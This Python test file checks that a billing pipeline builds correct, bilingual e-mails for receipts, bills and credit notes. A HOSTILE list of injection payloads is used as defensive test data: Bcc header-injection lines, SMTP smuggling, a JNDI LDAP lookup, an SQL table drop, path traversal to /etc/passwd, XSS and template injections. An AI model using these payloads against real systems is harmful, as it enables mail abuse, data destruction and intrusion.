"""E-mails about documents: what they say in each language, and that no text gets out of its place."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import SMTP

import pytest

from pipelines.documents.mail import Envelope, message, text
from pipelines.documents.model import Document, Party, Payment, Seller
from pipelines.documents.page import page

PDF = b"%PDF-1.7\n" + bytes(range(256)) * 20
D = Decimal
ENVELOPE = Envelope(
    "billing@example.com",
    "jane@example.org",
    "<R-2026-000001.0a1b2c3d4e5f@example.com>",
    datetime(2026, 10, 3, 8, 5, 7, tzinfo=UTC),
)
RECEIPT = Document(
    kind="receipt",
    number="R-2026-000001",
    issued_on=date(2026, 10, 3),
    language="en",
    account_id="A0001",
    billing_mode="prepaid",
    currency="EUR",
    digits=2,
    seller=Seller(Party("Example Telecom", "FR")),
    buyer=Party("Jane Customer", "FR"),
    period=(date(2026, 10, 3), date(2026, 10, 3)),
    lines=(),
    net_amount=D("1000.00"),
    vat_rate=D("0.2"),
    vat_rule="domestic",
    vat_amount=D("200.00"),
    gross_amount=D("1200.00"),
    paid_amount=D("1200.00"),
    total_owed=D("0.00"),
    payment=Payment("balance"),
    balance_after=D("-5.50"),
)
BILL = replace(
    RECEIPT,
    kind="bill",
    number="2026-000007",
    billing_mode="postpaid",
    period=(date(2026, 10, 1), date(2026, 10, 31)),
    paid_amount=D("0.00"),
    total_owed=D("1200.00"),
    payment=Payment("bank_transfer", date(2026, 12, 2)),
    balance_after=None,
)
NOTE = replace(
    BILL,
    kind="credit_note",
    number="CN-2026-000003",
    net_amount=D("-10.00"),
    vat_amount=D("-2.00"),
    gross_amount=D("-12.00"),
    total_owed=D("-12.00"),
    corrects="2026-000007",
    reason="wrong price of France mobile",
)

HOSTILE = [
    "x\r\nBcc: eve@example.net",
    "x\nBcc: eve@example.net",
    "x\rBcc: eve@example.net",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\r\n.\r\nMAIL FROM:<eve@example.net>",
    "\r\n.\r\n",
    ".",
    "..",
    "\n.\n",
    "x\0y",
    "\0",
    "\x1b[2J",
    "\x07\x08\x7f",
    "x\x85Bcc: eve@example.net",
    "x\u2028Bcc: eve@example.net",
    "x\u2029Bcc: eve@example.net",
    "x\x0bBcc: eve@example.net",
    "x\x0cBcc: eve@example.net",
    "x\x1cBcc: eve@example.net",
    "\u202eevil\u202c",
    "\u200b\u200d\ufeff",
    "\ud800",
    "\udfff tail",
    "=?utf-8?q?=0D=0ABcc:_eve=40example.net?=",
    "=?utf-8?b?DQpCY2M6IGV2ZUBleGFtcGxlLm5ldA==?=",
    "=?utf-8?q?x?=",
    "Eve <eve@example.net>",
    "<eve@example.net>",
    "eve@example.net, ",
    ", eve@example.net",
    "a, b; c: d",
    "group: eve@example.net;",
    '"; eve@example.net',
    '"',
    "\\",
    '\\"',
    "(comment",
    "comment)",
    "(a(b)c) <eve@example.net>",
    "@",
    "x" * 5000,
    "é" * 3000,
    "é, b <eve@example.net>" * 20,
    "word " * 400,
    "日本語の名前" * 30,
    "👩‍👩‍👧‍👦" * 50,
    "e\u0301" * 200,
    "{number}",
    "{0}",
    "%s%n%x",
    "${jndi:ldap://eve.example.net}",
    "{{7*7}}",
    "'; DROP TABLE outbox; --",
    "../../etc/passwd",
    "..\\..\\windows",
    "C:\\x.pdf",
    "a/b",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt;",
    "--=_boundary--",
    "From eve@example.net Thu Jan  1",
    "\tfolded",
    "   ",
    "",
]
"""Strings that names and numbers must not turn into headers, addresses, parts or commands."""


def read(document: Document, envelope: Envelope = ENVELOPE) -> EmailMessage:
    return message_from_bytes(message(document, envelope, PDF).as_bytes(), policy=SMTP)  # type: ignore[return-value]


class TestHeaders:
    def test_all(self) -> None:
        found = read(RECEIPT)
        assert found.keys() == [
            *("From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "MIME-Version", "Content-Type")
        ]
        assert found["From"] == "Example Telecom <billing@example.com>"
        assert found["To"] == "jane@example.org"
        assert found["Subject"] == "Receipt R-2026-000001 - Example Telecom"
        assert found["Date"] == "Sat, 03 Oct 2026 08:05:07 +0000"
        assert found["Message-ID"] == "<R-2026-000001.0a1b2c3d4e5f@example.com>"
        assert found["Auto-Submitted"] == "auto-generated"

    def test_the_same_bytes_on_every_attempt(self) -> None:
        first, again = (message(RECEIPT, ENVELOPE, PDF).as_bytes() for _ in range(2))
        assert first == again
        assert first.isascii()
        assert b"\n" not in first.replace(b"\r\n", b"")
        assert max(map(len, first.splitlines())) <= 78

    @pytest.mark.parametrize("language", ["en", "fr"])
    def test_the_subject_calls_it_as_its_page_does(self, language: str) -> None:
        for kind in ("receipt", "bill", "credit_note", "debit_note"):
            document = replace(BILL, kind=kind, language=language)  # type: ignore[arg-type]
            assert read(document)["Subject"] == f"{page(document)['title']} - Example Telecom"

    def test_without_a_name(self) -> None:
        found = read(replace(RECEIPT, seller=Seller(Party("", "FR"))))
        assert found["From"] == "billing@example.com"
        assert found["Subject"] == "Receipt R-2026-000001"

    @pytest.mark.parametrize("wrong", ["sender", "recipient"])
    @pytest.mark.parametrize("address", ["Eve <eve@example.net>", "eve@example.net, a@example.net", "a\r\n@b.c", ""])
    def test_no_plain_address(self, wrong: str, address: str) -> None:
        with pytest.raises(ValueError, match="no plain e-mail address"):
            message(RECEIPT, replace(ENVELOPE, **{wrong: address}), PDF)


class TestParts:
    def test_text_and_pdf(self) -> None:
        body, attached = read(RECEIPT).iter_parts()
        assert body.get_content_type() == "text/plain"
        assert body["Content-Language"] == "en"
        assert (attached.get_content_type(), attached.get_filename()) == ("application/pdf", "R-2026-000001.pdf")
        assert attached.get_content() == PDF

    @pytest.mark.parametrize("language", ["en", "fr"])
    @pytest.mark.parametrize("currency", ["EUR", "TND"])
    def test_the_text_arrives_as_it_is(self, language: str, currency: str) -> None:
        document = replace(RECEIPT, language=language, currency=currency)
        body, _ = read(document).iter_parts()
        assert body.get_content().splitlines() == text(document).splitlines()

    @pytest.mark.parametrize(("number", "name"), [("../R/1", "---R-1.pdf"), ("", "document.pdf"), ("é1", "-1.pdf")])
    def test_a_name_that_is_no_path(self, number: str, name: str) -> None:
        _, attached = read(replace(RECEIPT, number=number)).iter_parts()
        assert attached.get_filename() == name


class TestText:
    def test_receipt(self) -> None:
        assert text(RECEIPT).splitlines() == [
            "We have received your top-up of 3 October 2026. Receipt R-2026-000001 is attached.",
            "",
            "Account: A0001",
            "Credited amount: €1,000.00",
            "VAT: €200.00",
            "Total paid: €1,200.00",
            "Updated balance: −€5.50",
            "",
            "Example Telecom",
        ]

    def test_receipt_in_french(self) -> None:
        assert text(replace(RECEIPT, language="fr")).replace("\xa0", " ").replace("\u202f", " ").splitlines() == [
            "Nous avons reçu votre rechargement du 3 octobre 2026. Le reçu R-2026-000001 est joint.",
            "",
            "Compte : A0001",
            "Montant crédité : 1 000,00 €",
            "TVA : 200,00 €",
            "Total payé : 1 200,00 €",
            "Nouveau solde : −5,50 €",
            "",
            "Example Telecom",
        ]

    def test_bill(self) -> None:
        assert text(BILL).splitlines() == [
            "Your bill 2026-000007 for 1 October 2026 to 31 October 2026 is attached.",
            "",
            "Account: A0001",
            "Total with VAT: €1,200.00",
            "Total owed: €1,200.00",
            "",
            "Please pay by bank transfer by 2 December 2026, with reference 2026-000007.",
            "",
            "Example Telecom",
        ]

    def test_credit_note(self) -> None:
        assert text(NOTE).splitlines() == [
            "Credit note CN-2026-000003 is attached.",
            "Corrected bill: 2026-000007",
            "Reason: wrong price of France mobile",
            "",
            "Account: A0001",
            "Credited with VAT: €12.00",
            "",
            "It is set off against what you owe.",
            "",
            "Example Telecom",
        ]

    @pytest.mark.parametrize(
        ("payment", "sentence"),
        [
            (
                Payment("direct_debit", date(2026, 11, 9), "M-17"),
                "It will be debited on 9 November 2026 under your mandate M-17.",
            ),
            (Payment("direct_debit"), "It will be debited under your SEPA mandate."),
            (Payment("bank_transfer"), "Please pay by bank transfer, with reference 2026-000007."),
        ],
    )
    def test_how_it_is_paid(self, payment: Payment, sentence: str) -> None:
        assert sentence in text(replace(BILL, payment=payment))

    def test_nothing_to_pay(self) -> None:
        nothing = replace(BILL, total_owed=D("0.00"), payment=Payment("balance"))
        assert "There is nothing to pay." in text(nothing)
        assert "Paid from your balance." in text(replace(nothing, billing_mode="prepaid"))
        assert "Given back to your balance." in text(replace(NOTE, billing_mode="prepaid"))

    @pytest.mark.parametrize(
        ("currency", "digits", "amount", "shown"),
        [
            ("JPY", 0, "1200", "JP¥1,200"),
            ("TND", 3, "1.234", "TND\N{NO-BREAK SPACE}1.234"),
            ("IQD", 3, "5.000", "IQD\N{NO-BREAK SPACE}5.000"),
        ],
    )
    def test_digits_of_the_minor_unit(self, currency: str, digits: int, amount: str, shown: str) -> None:
        bill = replace(BILL, currency=currency, digits=digits, gross_amount=D(amount), total_owed=D(amount))
        assert f"Total owed: {shown}\n" in text(bill)

    def test_both_languages_have_words_for_all(self) -> None:
        for kind in ("receipt", "bill", "credit_note", "debit_note"):
            for document in (RECEIPT, BILL, NOTE):
                english, french = (text(replace(document, kind=kind, language=name)) for name in ("en", "fr"))  # type: ignore[arg-type]
                assert english != french
                assert len(english.splitlines()) == len(french.splitlines())


@pytest.mark.parametrize("hostile", HOSTILE)
class TestHostile:
    """A string in every place where a name or number of somebody stands."""

    def document(self, hostile: str) -> Document:
        return replace(
            NOTE,
            number=hostile,
            account_id=hostile,
            corrects=hostile,
            reason=hostile,
            seller=Seller(Party(hostile, "FR")),
            buyer=Party(hostile, "FR", email=hostile),
            payment=Payment("direct_debit", date(2026, 11, 9), hostile),
        )

    def test_it_stays_in_its_place(self, hostile: str) -> None:
        found = read(self.document(hostile))
        assert found.keys() == read(RECEIPT).keys()
        assert not found.defects
        for header, addresses in (("From", ["billing@example.com"]), ("To", ["jane@example.org"])):
            assert [address.addr_spec for address in found[header].addresses] == addresses
        body, attached = found.iter_parts()
        assert body.get_content_type() == "text/plain"
        assert len(body.get_content().splitlines()) <= len(text(NOTE).splitlines())
        assert attached.get_content() == PDF
        assert attached.get_filename().isascii()
        assert not set("/\\:\r\n\0") & set(attached.get_filename())
        assert len(found["Subject"]) < 260

    def test_the_buyer_is_not_named(self, hostile: str) -> None:
        named = replace(RECEIPT, buyer=Party(hostile or "x", "FR", address=hostile, email=hostile))
        assert message(named, ENVELOPE, PDF).as_bytes() == message(RECEIPT, ENVELOPE, PDF).as_bytes()
